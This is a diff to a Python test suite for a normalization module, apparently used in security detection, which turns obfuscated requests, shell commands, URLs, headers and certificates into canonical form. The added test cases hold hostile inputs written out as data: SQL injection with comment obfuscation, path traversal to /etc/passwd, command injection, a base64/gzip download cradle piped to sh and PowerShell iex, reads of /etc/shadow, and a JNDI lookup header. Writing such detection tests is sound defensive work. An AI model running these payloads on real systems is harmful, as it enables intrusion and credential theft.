@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 import random
 import re
 from urllib.parse import quote
@@ -78,6 +79,21 @@ def test_base64_of_noise_stays(raw):
         ("a" * 300, "a" * decoding.KEPT_REPEATS),
         ("/s?q=red+shoes", "/s?q=red shoes"),
         ("/c++/x", "/c++/x"),
+        ("/item;jsessionid=0123456789ABCDEF?id=3", "/item?id=3"),
+        ("1/*sail*/UNION/*a b*/SELECT", "1 union select"),
+        ("1/*;cat /etc/passwd*/", "1 ;cat /etc/passwd"),
+        ("1%23word%0aUNION--%20x%0aSELECT", "1 union select"),
+        ("/a/../b/../c/../d", "/d"),
+        ("/img/../../../etc/passwd", "/img/../../../etc/passwd"),
+        ("/a//b///c", "/a/b/c"),
+        ("/go?u=//evil.example//x", "/go?u=//evil.example/x"),
+        ("/....//....//etc", "/....//....//etc"),
+        ("x;{ping,-c,9}", "x;ping -c 9"),
+        ('{"a":1,"b":2}', '{"a":1,"b":2}'),
+        ("1 union select char(117,115,101,114)", "1 union select user"),
+        ("eval(String.fromCharCode(97,108,101,114,116))", "eval(alert)"),
+        ("chr(105)||chr(100)||chr(120)", "idx"),
+        ("char(10)", "char(10)"),
     ],
 )
 def test_requests(given, plain):
@@ -107,17 +123,36 @@ def test_more_commands():
     assert command("%COMSPEC% /c dir %windir%\\system32") == "cmd.exe /c dir c:\\windows\\system32"
     assert command('don\'t "quote me"') == 'don\'t "quote me"'
     assert command("grep '[^a]b' x") == "grep '[^a]b' x"
+    packed = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
+    assert command(f"echo {packed} | base64 -d | gunzip | sh") == CRADLE
+    assert command(f"powershell iex(x('{packed}'))") == f"powershell iex(x('{CRADLE}'))"
+    assert command("iex(-join([char[]](119,104,111,97,109,105)))") == "iex(-join(whoami))"
+    assert command('"bcdedit" /set x no') == "bcdedit /set x no"
+    assert command('"C:\\Program Files\\x.exe" -a') == '"c:\\program files\\x.exe" -a'
+    assert command("{ id; }") == "id" and command("(id)x(y)") == "(id)x(y)"
+    assert command("{wget,-q} http://a/b") == "wget -q http://a/b" and command("echo ${a,b}") == "echo ${a,b}"
+    assert command("curl http://u:p@h.example/x") == "curl http://h.example/x"
+    assert command("cat /etc/shadow # many quiet words") == command("cat /etc/shadow & rem many quiet words") == "cat /etc/shadow"
+    assert command("x # $(id)") == "x # $(id)"
+    for address in ("0306.063.0144.07", "0xc6.0x33.0x64.0x7", "[::ffff:198.51.100.7]", "3325256711", "198.51.100.7"):
+        assert command(f"curl http://{address}/x") == "curl http://198.51.100.7/x"
 
 
 def test_addresses_names_headers_certificates():
     assert page("https://www.bank.com@3325256711:80/%6cogin?a=1") == "198.51.100.7/login?a=1"
     assert page("EXAMPLE.com/") == "example.com"
+    assert page("hxxps://a[.]example/LOGIN.PHP;jsessionid=0123456789ABCDEF") == "a.example/login.php"
     assert file_words("HR\\CustomerList_2019-final.XLSX") == "hr/customer list 2019 final xlsx"
     assert header("X-Api:  ${${lower:J}ndi:ldap://x}") == "x-api: ${jndi:ldap://x}"
     zeek = certificate("subject=CN=a.b,O=X,C=US issuer=CN=R3,O=LE,C=US")
     assert certificate("subject=C=US, O=X, CN=a.b issuer=C=US, O=LE, CN=R3") == zeek == "subject=c=us, cn=a.b, o=x issuer=c=us, cn=r3, o=le"
     assert certificate("subject=CN=x issuer=CN=x") == "subject=cn=x issuer=self"
     assert certificate("CN=x") == "subject=cn=x"
+
+
+@given(st.text(" \t\u200b\xa0a\x00\udca0\u2028\ufeff", max_size=12) | st.text(max_size=20))
+def test_the_short_way_to_single_blanks_is_the_long_one(text):
+    assert decoding.one_blank(text) == decoding._BLANKS.sub(" ", text).strip(" ")
 
 
 @given(st.text(max_size=300), st.sampled_from(NEW))
@@ -129,7 +164,10 @@ def test_any_text_is_normalized_and_stays_so(text, name):
 
 
 @pytest.mark.parametrize("name", NEW)
-@pytest.mark.parametrize("piece", ["%25", "&#", "a'", "QUJD", "^", "$ifs", "${", "b" * 31 + "c", ",a="])
+@pytest.mark.parametrize(
+    "piece",
+    ["%25", "&#", "a'", "QUJD", "^", "$ifs", "${", "b" * 31 + "c", ",a=", "chr(65)||", "65,", "{a,", "/a/..", "//0x", "/*a", "# ", "A b "],
+)
 def test_overlong_texts_take_linear_time(name, piece):
     """A quadratic pattern would take minutes here, beyond the time limit of a test run."""
     text = piece * (65_536 // len(piece))
